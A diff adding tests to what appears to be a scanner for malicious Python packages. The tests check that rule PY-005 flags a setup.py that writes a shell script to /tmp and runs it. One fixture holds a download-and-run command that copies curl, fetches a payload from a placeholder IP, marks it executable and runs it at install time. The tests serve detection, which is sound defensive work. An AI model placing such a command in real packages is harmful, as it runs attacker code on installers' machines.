@@ -387,3 +387,24 @@ describe('parameters of local helpers fold to what their callers pass', () => {
     expect(findingsOf(r, 'PY-008')).toHaveLength(0);
   });
 });
+
+describe('PY-005: a shell script written from a constant and run', () => {
+  const drop = (script: string) =>
+    `import os\nwith open("/tmp/start.sh", "w") as fw:\n    fw.write(${JSON.stringify(script)})\nos.system("bash /tmp/start.sh")\n${SETUP}`;
+
+  it('a script fetching a URL to a file and running it is download-and-run', async () => {
+    const r = await scanSdist({
+      'setup.py': drop(
+        'cp /usr/bin/curl /tmp/c; /tmp/c http://192.0.2.1/p -o /tmp/p; chmod +x /tmp/p; /tmp/p',
+      ),
+    });
+    const f = findingsOf(r, 'PY-005')[0];
+    expect(f?.severity).toBe('critical');
+    expect(f?.message).toMatch(/shell script/);
+  });
+
+  it('a build script without downloads is not', async () => {
+    const r = await scanSdist({ 'setup.py': drop('cd build && cmake .. && make -j4 && chmod +x tool') });
+    expect(findingsOf(r, 'PY-005')).toHaveLength(0);
+  });
+});
